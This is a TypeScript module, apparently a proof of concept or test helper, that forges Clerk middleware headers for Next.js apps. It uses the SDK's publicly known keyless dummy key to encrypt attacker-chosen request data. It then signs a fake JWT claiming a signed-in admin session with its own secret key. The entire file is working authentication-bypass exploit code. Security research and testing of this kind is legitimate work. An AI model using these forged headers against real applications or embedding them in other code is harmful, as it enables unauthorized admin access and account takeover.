import { createCipheriv, createHash, createHmac, randomBytes } from "node:crypto";
import { secretKey } from "../tools/keys.ts";

/**
 * The key with which @clerk/nextjs opens x-clerk-request-data when it has no other, as in its keyless
 * mode. Everybody can read it in the SDK, and forge what it opens.
 */
export const KEYLESS = "clerk_keyless_dummy_key";

/** Encrypts as the SDK's AES does with a password: OpenSSL's format, with a key that MD5 derives. */
function encrypt(value: object, password: string): string {
  const salt = randomBytes(8);
  const md5 = (...parts: Buffer[]) => createHash("md5").update(Buffer.concat(parts)).digest();
  const from = Buffer.concat([Buffer.from(password), salt]);
  const first = md5(from);
  const second = md5(first, from);
  const cipher = createCipheriv("aes-256-cbc", Buffer.concat([first, second]), md5(second, from));
  const text = Buffer.concat([cipher.update(JSON.stringify(value)), cipher.final()]);
  return Buffer.concat([Buffer.from("Salted__"), salt, text]).toString("base64");
}

const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");

/**
 * Headers that say "signed in as an admin", as Clerk's middleware hands them on. The options inside name
 * a secret key of the forger's own, and with it the rest is signed.
 */
export function forgedRequestData(password: string, publishableKey: string) {
  const now = Math.floor(Date.now() / 1_000);
  const times = { iat: now, nbf: now - 10, exp: now + 3_600 };
  const metadata = { role: "admin", plan: "enterprise", onboardingComplete: true };
  const payload = { sub: "user_local_owner", sid: "sess_forged", ...times, metadata };
  const token = `${encode({ alg: "RS256", typ: "JWT" })}.${encode(payload)}.eA`;
  const own = secretKey();
  return {
    "x-clerk-request-data": encrypt({ secretKey: own, publishableKey }, password),
    "x-clerk-auth-status": "signed-in",
    "x-clerk-auth-token": token,
    "x-clerk-auth-signature": createHmac("sha1", own).update(token).digest("hex"),
  };
}
